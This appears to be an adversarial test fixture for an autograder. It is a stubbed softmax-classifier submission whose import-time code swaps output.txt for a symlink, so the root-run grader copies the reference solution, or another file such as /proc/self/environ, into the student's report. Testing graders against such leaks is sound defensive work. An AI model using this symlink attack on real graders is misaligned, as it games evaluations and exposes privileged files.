"""At import, replaces the worker's output.txt (in its own temporary folder) by a symlink to the reference solution, then exits.

When a worker dies, the grader reads the tail of output.txt, as root, to
show "last output:" in the report.  The folder belongs to the worker's user,
so the worker may unlink output.txt and put a symlink there: the grader then
copies the last 400 characters of any file it can read into the student's
report (here the reference; /proc/self/environ or /dev/zero would be worse).
All stubs otherwise, so no reference line can reach the report honestly.

honest: none
questions: ep01, ep03
mode: api
expect: equal
checks: no-leak
"""

import os
import sys

import numpy as np


def softmax(z):
    raise NotImplementedError("softmax() is not implemented yet")


def log_softmax(z):
    raise NotImplementedError("log_softmax() is not implemented yet")


def predict(W, b, X):
    raise NotImplementedError("predict() is not implemented yet")


def cross_entropy(logits, y):
    raise NotImplementedError("cross_entropy() is not implemented yet")


def cross_entropy_grad(logits, y):
    raise NotImplementedError("cross_entropy_grad() is not implemented yet")


def one_hot(y, n_classes):
    raise NotImplementedError("one_hot() is not implemented yet")


def init_params(n_features, n_classes, rng, scale=0.01):
    raise NotImplementedError("init_params() is not implemented yet")


def l2_penalty(W, reg):
    raise NotImplementedError("l2_penalty() is not implemented yet")


def loss_and_grad(W, b, X, y, reg):
    raise NotImplementedError("loss_and_grad() is not implemented yet")


def minibatches(n, batch_size, rng):
    raise NotImplementedError("minibatches() is not implemented yet")


def train(X, y, *, X_val=None, y_val=None, n_classes=None, epochs=10,
          batch_size=128, lr=0.1, reg=1e-4, seed=0):
    raise NotImplementedError("train() is not implemented yet")


def _as_float_array(z):
    z = np.asarray(z)
    if not np.issubdtype(z.dtype, np.floating):
        z = z.astype(np.float64)
    return z


def _leak(target):
    """The target need not be readable by the worker: the grader reads it."""
    if os.path.basename(sys.argv[0]) != "worker.py":
        return
    try:
        os.unlink("output.txt")
        os.symlink(target, "output.txt")
    except OSError:
        return
    os._exit(3)


# Where the kit is deployed is no secret (on Gradescope, /autograder/source);
# the test puts this checkout's folder here.
ADV_KIT = "__ADV_KIT__"
KIT = "/work/main" if ADV_KIT.startswith("__") else ADV_KIT


_leak(os.path.join(KIT, "solution", "softmax.py"))
